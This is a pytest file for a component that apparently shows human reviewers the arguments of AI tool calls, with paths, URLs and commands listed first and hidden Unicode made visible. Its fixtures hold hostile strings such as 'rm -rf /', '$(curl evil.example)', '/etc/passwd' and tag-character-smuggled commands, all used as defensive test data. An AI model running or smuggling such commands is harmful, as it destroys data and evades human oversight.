"""What a person sees of the arguments (a31, n07): what would be touched first, and nothing hidden."""

from __future__ import annotations

import json
import tracemalloc
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcpd.policy.card import HEAD, MOST, TAIL, Argument, lay_out, visible


def text(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()


def shown(value: Any, **how: Any) -> list[tuple[str, str, str]]:
    return [(each.kind, each.name, each.value) for each in lay_out(text(value), **how).arguments]


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        ({}, []),
        (
            {"text": "hello", "command": "make", "url": "x.example", "path": "notes"},
            [
                ("path", "path", "notes"),
                ("url", "url", "x.example"),
                ("command", "command", "make"),
                ("", "text", "hello"),
            ],
        ),
        # By the value, whatever the argument is called.
        ({"a": "hi", "b": "/etc/passwd"}, [("path", "b", "/etc/passwd"), ("", "a", "hi")]),
        ({"a": "~/x", "b": "../x"}, [("path", "a", "~/x"), ("path", "b", "../x")]),
        ({"a": "hi", "c": "C:\\x"}, [("path", "c", "C:\\x"), ("", "a", "hi")]),
        ({"a": "hi", "b": "https://x.example/"}, [("url", "b", "https://x.example/"), ("", "a", "hi")]),
        ({"text": "file:///etc/passwd"}, [("url", "text", "file:///etc/passwd")]),
        ({"a": "hi", "note": "ls; rm -rf /"}, [("command", "note", "ls; rm -rf /"), ("", "a", "hi")]),
        ({"note": "x $(curl evil.example)"}, [("command", "note", "x $(curl evil.example)")]),
        ({"sourcePath": "a", "target_dir": "b"}, [("path", "sourcePath", "a"), ("path", "target_dir", "b")]),
        # Inside: places are told, lists of plain values stay together.
        ({"o": {"url": "u", "n": [1, 2]}}, [("url", "o.url", "u"), ("", "o.n", "[1, 2]")]),
        ({"edits": [{"old": "a"}, {"old": "b"}]}, [("", "edits[0].old", "a"), ("", "edits[1].old", "b")]),
        ({"args": ["-rf", "/"]}, [("command", "args", '["-rf", "/"]')]),
        ({"a.b": {"c d": 1}}, [("", '"a.b"."c d"', "1")]),
        # What reads alike is told apart.
        ({"a": 1, "b": "1"}, [("", "a", "1"), ("", "b", '"1"')]),
        ({"a": None, "b": "null", "c": True, "d": "true", "e": ""}, [
            ("", "a", "null"), ("", "b", '"null"'), ("", "c", "true"), ("", "d", '"true"'), ("", "e", '""'),
        ]),
        ({"a": {}, "b": []}, [("", "a", "{}"), ("", "b", "[]")]),
    ],
)  # fmt: skip
def test_what_comes_first(arguments: Any, expected: list[tuple[str, str, str]]) -> None:
    assert shown(arguments) == expected
    assert not lay_out(text(arguments)).cut


def test_numbers_are_shown_as_they_are_spelled() -> None:
    card = lay_out(b'{"a":1.0,"b":1e400,"c":10000000000000000000001,"d":[1.50]}')
    assert [each.value for each in card.arguments] == ["1.0", "1e400", "10000000000000000000001", "[1.50]"]
    assert msgspec.json.encode(card)


@pytest.mark.parametrize(
    ("value", "seen", "said"),
    [
        ("a\u202eb", "a<U+202E>b", ("1 hidden (bidirectional)",)),
        ("pay\u200bpal", "pay<U+200B>pal", ("1 hidden (zero-width)",)),
        (
            "nice" + "".join(chr(0xE0000 + ord(c)) for c in "rm -rf"),
            "nice" + "".join(f"<U+E00{ord(c):02X}>" for c in "rm -rf"),
            ("6 hidden (tag), which say 'rm -rf'",),
        ),
        ("\x1b[2J", "<U+001B>[2J", ("1 hidden (control)",)),
        ("a\u2066b\u2069", "a<U+2066>b<U+2069>", ("2 hidden (bidirectional)",)),
        ("a\u3164b", "a<U+3164>b", ("1 hidden (filler)",)),
        ("a\ufe01b", "a<U+FE01>b", ()),
        ("zwj \U0001f468\u200d\U0001f469", "zwj \U0001f468<U+200D>\U0001f469", ()),
        ("two\nlines\tand tabs", "two\nlines\tand tabs", ()),
        ("Grüße, שלום, 你好", "Grüße, שלום, 你好", ()),
    ],
)
def test_what_is_hidden_is_seen(value: str, seen: str, said: tuple[str, ...]) -> None:
    (argument,) = lay_out(text({"text": value})).arguments
    assert (argument.value, argument.hidden) == (seen, said)
    # In the name too, where what JSON escapes is seen by that.
    (argument,) = lay_out(text({value: 1})).arguments
    assert argument.name == visible(argument.name)
    assert argument.hidden == said or "\\u" in argument.name


def test_a_harm_at_the_end_of_200_kb_is_on_the_card_already() -> None:
    card = lay_out(text({"content": "a" * 200_000 + "\nrm -rf ~"}))
    (argument,) = card.arguments
    assert argument.value.endswith("\nrm -rf ~")
    assert argument.left_out == 200_009 - HEAD - TAIL
    assert card.cut
    assert shown({"content": "a" * 200_000 + "\nrm -rf ~"}, whole=True) == [
        ("", "content", "a" * 200_000 + "\nrm -rf ~")
    ]


def test_a_harm_in_the_middle_is_seen_in_the_whole_and_counted_before() -> None:
    value = "a" * 100_000 + "rm -rf ~" + "".join(chr(0xE0000 + ord(c)) for c in "go") + "a" * 100_000
    (argument,) = lay_out(text({"content": value})).arguments
    assert argument.left_out
    assert argument.hidden == ("2 hidden (tag), which say 'go'",)
    (argument,) = lay_out(text({"content": value}), whole=True).arguments
    assert "rm -rf ~<U+E0067><U+E006F>" in argument.value


def test_many_arguments_are_counted() -> None:
    many = {f"k{number}": "x" for number in range(100)} | {"path": "/a"}
    card = lay_out(text(many))
    assert card.arguments[0] == Argument("path", "path", "/a")
    assert (len(card.arguments), card.left_out, card.cut) == (MOST, 101 - MOST, True)
    assert len(lay_out(text(many), whole=True).arguments) == 101


def test_what_has_no_single_meaning_is_shown_as_text() -> None:
    (argument,) = lay_out(b'{"path":"/a","path":"/b"}').arguments
    assert argument.value == '{"path":"/a","path":"/b"}'
    (argument,) = lay_out(b"\xff\xfe").arguments
    assert argument.value == "\\xff\\xfe"


@given(st.text())
def test_nothing_that_a_terminal_obeys_is_left(value: str) -> None:
    assert all(character.isprintable() or character in "\n\t" for character in visible(value))


leaves = st.text(min_size=1) | st.integers() | st.booleans() | st.none()
arguments = st.dictionaries(
    st.text(max_size=12),
    st.recursive(
        leaves,
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=5), inner, max_size=4),
    ),
    max_size=6,
)


@given(arguments)
def test_the_whole_card_leaves_nothing_out(value: dict[str, Any]) -> None:
    card = lay_out(json.dumps(value).encode(), whole=True)
    assert not card.cut
    said = "\n".join(each.value for each in card.arguments)

    def check(item: Any) -> None:
        if isinstance(item, dict):
            for each in item.values():
                check(each)
        elif isinstance(item, list):
            for each in item:
                check(each)
        elif isinstance(item, str):
            # As it is, or quoted in a list.
            quoted = visible(json.dumps(item, ensure_ascii=False))
            assert visible(item) in said or quoted in said or json.dumps(item) in said
        else:
            assert json.dumps(item) in said

    check(value)


@given(arguments)
def test_what_a_card_does_not_say_is_counted(value: dict[str, Any]) -> None:
    short, whole = (lay_out(json.dumps(value).encode(), whole=how) for how in (False, True))
    assert len(short.arguments) + short.left_out == len(whole.arguments)
    if not short.cut:
        assert short == whole


def test_a_deep_place_is_not_written_once_for_each_of_very_many_values() -> None:
    inner = json.dumps({f"m{number}": 1 for number in range(3000)})
    arguments = (('{"' + "a" * 300 + '":') * 80 + inner + "}" * 80).encode()
    for whole in (False, True):
        tracemalloc.start()
        try:
            card = lay_out(arguments, whole=whole)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert peak < 10_000_000, "it was 75 MB, and 20 GB for the largest arguments"
        (only,) = card.arguments
        assert only.name == ""
        assert (only.value == arguments.decode().replace(" ", "")) is whole


def test_very_many_values_are_shown_as_one_text_where_all_are_to_be_seen() -> None:
    arguments = json.dumps({"path": "/etc", **{f"m{number}": number for number in range(6000)}}).encode()
    (only,) = lay_out(arguments, whole=True).arguments
    assert only.value == arguments.decode().replace(" ", "")
    assert lay_out(arguments).arguments[0].value == "/etc"


def test_no_escape_hides_what_is_shown_in_one_text() -> None:
    arguments = b'{"a": {"%s": "\\u0072m -rf \\u202e", "n": 1.0}}' % (b"x" * 400)
    (only,) = lay_out(b'{"%s": %s}' % (b"k" * 400, arguments), whole=True).arguments
    assert '"rm -rf <U+202E>"' in only.value
    assert '"n":1.0' in only.value
